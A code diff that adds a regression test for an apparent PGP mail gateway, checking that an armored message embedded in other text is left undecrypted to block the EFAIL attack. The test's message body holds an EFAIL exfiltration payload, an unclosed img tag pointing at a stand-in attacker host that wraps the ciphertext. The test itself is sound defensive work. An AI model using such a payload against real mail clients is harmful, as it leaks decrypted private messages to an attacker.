@@ -206,3 +206,15 @@ test('sign: required holds mail from a sender without a hosted key, then tells t
   assert.deepEqual(s.sink.messages[0]!.to, ['nokey@example.test']);
   assert.match(s.sink.messages[0]!.body.toString('latin1'), /X-Sealpost-Notification: encryption-failed/);
 });
+
+test('EFAIL: an armored message inside other text is not decrypted; it is delivered as received, tagged failed-to-decrypt', async (t) => {
+  const s = await scenario(t);
+  await s.gw.app.pgp.keyring.import(await gpg.exportSecret(alice));
+  const enc = (await gpg.encrypt('the secret\n', [alice])).toString().replace(/\r?\n/g, '\r\n');
+  await s.send('eve@partner.test', ['alice@example.test'], `From: eve@partner.test\r\nTo: alice@example.test\r\nSubject: efail\r\nContent-Type: text/plain\r\n\r\n<img src="http://eve.test/?\r\n${enc}\r\n">\r\n`);
+  await s.sink.waitFor(1, 20_000);
+  const got = s.sink.messages[0]!.body.toString('latin1');
+  assert.match(got, /^X-Sealpost-Action: failed-to-decrypt\r$/m);
+  assert.doesNotMatch(got, /the secret/);
+  assert.match(got, /BEGIN PGP MESSAGE/);
+});
